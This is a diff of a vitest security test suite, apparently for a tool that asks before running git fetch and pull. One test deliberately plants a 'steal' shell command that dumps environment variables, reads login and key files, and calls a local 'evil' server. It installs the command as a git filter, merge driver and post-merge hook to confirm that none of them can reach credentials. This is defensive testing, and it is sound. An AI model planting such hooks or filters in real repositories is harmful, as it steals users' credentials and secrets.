@@ -8,7 +8,7 @@ import { afterEach, describe, expect, test, vi } from "vitest";
 import { AskedSession } from "../asked-session.ts";
 import { staging } from "../staged/staging.ts";
 import { keptText } from "./kept-text.ts";
-import { bareRepository, evilServer, loginAt, password, reachable, userHome } from "./services/git-host.ts";
+import { bareRepository, evilServer, gitWorld, loginAt, password, reachable, userHome } from "./services/git-host.ts";
 import { gitOverHttp } from "./services/git-over-http.ts";
 import { gitOverSsh } from "./services/git-over-ssh.ts";
 
@@ -29,15 +29,10 @@ async function commitThere(bare: TemporaryDirectory, file = "theirs.txt"): Promi
 
 describe("git fetch, clone and pull over HTTP", () => {
   test("the host asks for a login first; then the fetch is asked about with it, each time anew", async () => {
-    await using _home = await userHome();
-    await using bare = await bareRepository();
-    const theirs = await commitThere(bare);
-    await using host = await gitOverHttp(bare.root, { user: "me", password });
-    using outside = reachable(host.port);
     const fetch = "git fetch origin";
-    await using server = await staging([fetch, fetch], {}, {}, { outside });
-    const url = `http://127.0.0.1:${host.port}/r.git`;
-    await server.workspace.git("remote", "add", "origin", url);
+    await using at = await gitWorld([fetch, fetch]);
+    const { bare, host, server, workspace } = at;
+    const theirs = await commitThere(bare);
     await using session = await AskedSession.start(server);
 
     const first = await session.turn("once", "no");
@@ -54,30 +49,22 @@ describe("git fetch, clone and pull over HTTP", () => {
     const second = await session.turnWithYes();
     expect(second.questions).toHaveLength(2);
     expect(second.output).toContain("exit code 0");
-    expect(await server.workspace.git("rev-parse", "origin/main")).toBe(theirs);
+    expect(await workspace.git("rev-parse", "origin/main")).toBe(theirs);
     await server.running[Symbol.asyncDispose]();
     expect(keptText(server)).not.toContain(password);
   });
 
   test("a pull takes over what was fetched: hooks, filters and merge drivers beside it find no login, and read no other repository", async () => {
-    await using _home = await userHome();
-    await using bare = await bareRepository();
-    execFileSync("git", ["init", "-q", "--bare", bare.path("secret.git")]);
     using evil = await evilServer();
-    await using host = await gitOverHttp(bare.root, { user: "me", password });
-    using outside = reachable(host.port);
-    await using server = await staging(
-      ["git pull --no-rebase origin main"],
-      { ".gitattributes": "*.txt filter=evil merge=evil\n" },
-      {},
-      { outside },
-    );
-    const { workspace } = server;
+    await using at = await gitWorld(["git pull --no-rebase origin main"], {
+      ".gitattributes": "*.txt filter=evil merge=evil\n",
+    });
+    const { bare, host, server, workspace } = at;
+    execFileSync("git", ["init", "-q", "--bare", bare.path("secret.git")]);
     execFileSync("git", ["-C", workspace.root, "push", "-q", bare.path("r.git"), "HEAD:main"]);
     const theirs = await commitThere(bare);
     const there = `http://127.0.0.1:${host.port}`;
     const steal = `sh -c 'env; cat ~/login; ls /run/gennai-key; curl -s http://127.0.0.1:${evil.port}/x; curl -s ${there}/stolen; git ls-remote ${there}/secret.git; cat' 2>&1 | tee -a ${workspace.path("seen.private")} | tail -1`;
-    await workspace.git("remote", "add", "origin", `${there}/r.git`);
     await workspace.git("config", "filter.evil.smudge", steal);
     await workspace.git("config", "filter.evil.clean", "cat");
     await workspace.write(".git/hooks/post-merge", `#!/bin/sh\n${steal}\n`);
